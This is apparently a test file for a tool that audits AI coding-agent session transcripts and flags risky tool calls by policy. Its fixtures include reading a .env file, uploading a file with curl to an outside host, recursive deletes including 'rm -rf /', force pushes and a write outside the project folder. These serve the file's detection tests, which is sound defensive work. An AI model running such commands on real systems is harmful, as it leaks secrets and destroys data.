import { DEFAULT_POLICY, parsePolicy } from '@cco/audit-policy';
import Database from 'libsql';
import { beforeEach, describe, expect, it } from 'vitest';
import {
  type CallSource,
  type FindingFilter,
  readFindings,
  refreshFindings,
} from '../src/index.ts';
import { call, sourceOf } from './source.ts';

let db: Database.Database;
beforeEach(() => {
  db = new Database(':memory:');
});

const home = '/home/mira';
const refresh = (source: CallSource, policy = DEFAULT_POLICY, folders: string[] = []) =>
  refreshFindings(db, source, { policy, folders, home });
const found = (filter: FindingFilter = {}) =>
  readFindings(db, filter).findings.map(({ ruleId, call: { session } }) => `${session} ${ruleId}`);

const CALLS = [
  call('a', 0, 'cat .env'),
  call('a', 1, 'ls'),
  call('b', 2, 'npm publish'),
  call('a', 30, 'curl -T out.txt https://in.acme.io'),
  call('b', 31, 'rm -rf dist'),
];

describe('refreshFindings', () => {
  it('judges sessions once, and again when they have grown', () => {
    const source = sourceOf(CALLS);
    expect(refresh(source)).toEqual({ sessionsJudged: 2, callsJudged: 5 });
    expect(refresh(source)).toEqual({ sessionsJudged: 0, callsJudged: 0 });
    const grown = sourceOf([...CALLS, call('b', 40, 'git push --force')]);
    expect(refresh(grown)).toEqual({ sessionsJudged: 1, callsJudged: 3 });
    expect(grown.read).toEqual(['b']);
    expect(found()).toEqual([
      'a sensitive-read',
      'a upload-http',
      'a read-then-send',
      'b publish',
      'b git-force-push',
    ]);
  });

  it('judges all again when the policy asks for other findings, and only then', () => {
    const source = sourceOf(CALLS);
    const policyOf = (value: unknown) =>
      parsePolicy(JSON.stringify(value)).policy ?? DEFAULT_POLICY;
    refresh(source);
    expect(refresh(source, policyOf({ rules: { publish: 'off' } })).sessionsJudged).toBe(0);
    expect(refresh(source, policyOf({ sensitivePaths: ['**/out.txt'] })).sessionsJudged).toBe(2);
    expect(refresh(source, DEFAULT_POLICY, ['/srv']).sessionsJudged).toBe(2);
  });

  it('keeps what was found in sessions whose transcripts are gone', () => {
    refresh(sourceOf(CALLS));
    refresh(sourceOf(CALLS.filter(({ source }) => source.session === 'a')));
    expect(found()).toContain('b publish');
  });

  it('takes the folder that a session belongs to, wherever it went', () => {
    const write = (cwd: string, path: string) =>
      call('c', 1, '', { tool: 'Write', cwd, input: { file_path: path, content: 'x' } });
    const inner = '/home/mira/code/shop/packages/a';
    refresh(
      sourceOf([
        call('c', 0, 'ls', { cwd: inner }),
        { ...write('/home/mira/code/shop', '/home/mira/code/shop/x'), id: 'toolu_x' },
        { ...write(inner, '/home/mira/code/shop/src/a.ts'), id: 'toolu_y' },
        { ...write(inner, '/home/mira/code/shop-evil/a.ts'), id: 'toolu_z' },
      ]),
    );
    expect(readFindings(db).findings.map(({ path }) => path)).toEqual([
      '/home/mira/code/shop-evil/a.ts',
    ]);
  });

  it.each([
    ['a null input', { input: null }],
    ['a text as input', { input: 'rm -rf /' }],
    ['no folder and no time', { cwd: undefined, time: undefined }],
    ['an unknown tool', { tool: 'mcp__x__y', input: { a: [[[1]]] } }],
    ['a long command', { input: { command: 'a '.repeat(500_000) } }],
    ['what no shell can read', { input: { command: 'echo "\0$((' } }],
  ])('takes %s', (_, parts) => {
    expect(refresh(sourceOf([call('d', 0, '', parts)])).callsJudged).toBe(1);
  });
});

describe('readFindings', () => {
  beforeEach(() => {
    refresh(sourceOf(CALLS));
  });
  const at = (hour: number) => Date.parse('2026-11-10T09:00:00Z') + hour * 3_600_000;

  it('counts what it looked at', () => {
    expect(readFindings(db)).toMatchObject({ calls: 5, sessions: 2, hiddenRemarks: 1 });
    expect(readFindings(db, { since: at(10) })).toMatchObject({
      calls: 2,
      sessions: 2,
      hiddenRemarks: 1,
    });
    expect(readFindings(db, { until: at(10) })).toMatchObject({
      calls: 3,
      sessions: 2,
      hiddenRemarks: 0,
    });
  });

  it('chooses by time, session and project', () => {
    expect(found({ since: at(10) })).toEqual(['a upload-http', 'a read-then-send']);
    expect(found({ until: at(10) })).toEqual(['a sensitive-read', 'b publish']);
    expect(found({ session: 'b' })).toEqual(['b publish']);
    expect(found({ wantsProject: () => false })).toEqual([]);
    expect(found({ session: 'b', remarks: true })).toEqual(['b publish', 'b remove-recursive']);
  });

  it('restores the wording and names the place', () => {
    const [finding] = readFindings(db, { session: 'b' }).findings;
    expect(finding?.why).not.toBe('');
    expect(finding?.place).toEqual({ file: '/t/b.jsonl', line: 3 });
    expect(finding?.projectPath).toBe('/home/mira/code/shop');
  });
});
